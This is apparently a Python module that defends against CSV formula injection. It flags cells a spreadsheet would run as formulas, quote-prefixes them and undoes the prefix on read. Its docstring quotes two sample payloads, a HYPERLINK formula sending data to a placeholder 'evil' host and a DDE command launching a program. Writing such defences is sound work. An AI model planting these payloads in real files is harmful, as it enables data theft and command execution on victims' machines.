"""Text that a spreadsheet would run as a formula, and how to make it harmless.

Excel, LibreOffice and Google Sheets treat a cell that starts with ``=``, ``+``, ``-`` or ``@``
(or a tab or carriage return before one) as a formula when a CSV file is opened: an id such as
``=HYPERLINK("http://evil/?"&A1)`` or ``+cmd|' /C calc'!A0`` then runs. The workbook report already
writes such text as a quoted string cell (:mod:`entitle.reports.xlsx`); the CSV files entitle
writes for people put a ``'`` before it, as OWASP advises and as Excel shows its own quote
prefix. A number (``-5``, ``+1.5``) is left as it is. The estate reader takes the ``'`` off again
(:func:`unquote`), so such a file reads back as written. Imports nothing of entitle.
"""

from __future__ import annotations

import re

RISKY_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?(\d[\d,]*(\.\d*)?|\.\d+)([eE][+-]?\d+)?%?")


def looks_like_formula(text: str) -> bool:
    """``text`` would be read as a formula by a spreadsheet (a plain number would not)."""
    return text.startswith(RISKY_START) and NUMBER.fullmatch(text) is None


def spreadsheet_safe(text: str) -> str:
    """``text`` as a CSV cell that no spreadsheet runs: ``'`` before a formula-looking one (and
    before one that already starts with quotes before a formula, so that :func:`unquote` gives
    back exactly ``text``)."""
    return "'" + text if looks_like_formula(text.lstrip("'")) else text


def unquote(text: str) -> str:
    """The text :func:`spreadsheet_safe` made safe, as it was."""
    return text[1:] if text.startswith("'") and looks_like_formula(text.lstrip("'")) else text
